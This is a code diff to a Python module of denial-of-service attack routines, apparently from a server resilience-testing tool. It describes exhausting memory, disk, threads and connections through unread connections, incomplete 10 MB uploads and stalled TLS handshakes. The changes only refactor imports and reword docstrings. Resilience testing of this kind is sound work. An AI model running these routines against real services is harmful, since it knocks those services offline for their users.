@@ -1,8 +1,10 @@
-"""Attacks that make the service hold what it has for them: in memory, on the disk, in threads, as connections."""
+"""Attacks that make the service hold something for them: memory, disk, threads, connections."""
 
 from __future__ import annotations
 
 import asyncio
+import ssl
+from contextlib import suppress
 from typing import TYPE_CHECKING
 
 from .wire import DATA, WINDOW, Peer, Target, frame, trusting
@@ -63,7 +65,7 @@ async def shut_windows(target: Target) -> None:
 
 
 async def unread_answers(target: Target) -> None:
-    """The same on connections of which nothing is read."""
+    """Ask for the same on connections of which nothing is read."""
 
     async def begin(peer: Peer) -> None:
         await peer.greet({WINDOW: 2**31 - 1})
@@ -106,7 +108,7 @@ async def part_bodies(target: Target) -> None:
 
 
 async def uploads(target: Target) -> None:
-    """Uploads of 10 MB that lack their last byte: they fill the memory, and then the disk."""
+    """Upload 10 MB but for the last byte: that fills the memory, and then the disk."""
 
     async def begin(peer: Peer) -> None:
         await peer.send(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 10000000\r\n\r\n")
@@ -169,12 +171,8 @@ async def stalled_handshakes(target: Target) -> None:
 
 
 def _client_hello() -> bytes:
-    import ssl  # noqa: PLC0415  only this attack speaks TLS
-
     incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
     session = trusting().wrap_bio(incoming, outgoing)
-    try:
+    with suppress(ssl.SSLWantReadError):
         session.do_handshake()
-    except ssl.SSLWantReadError:
-        pass
     return outgoing.read()
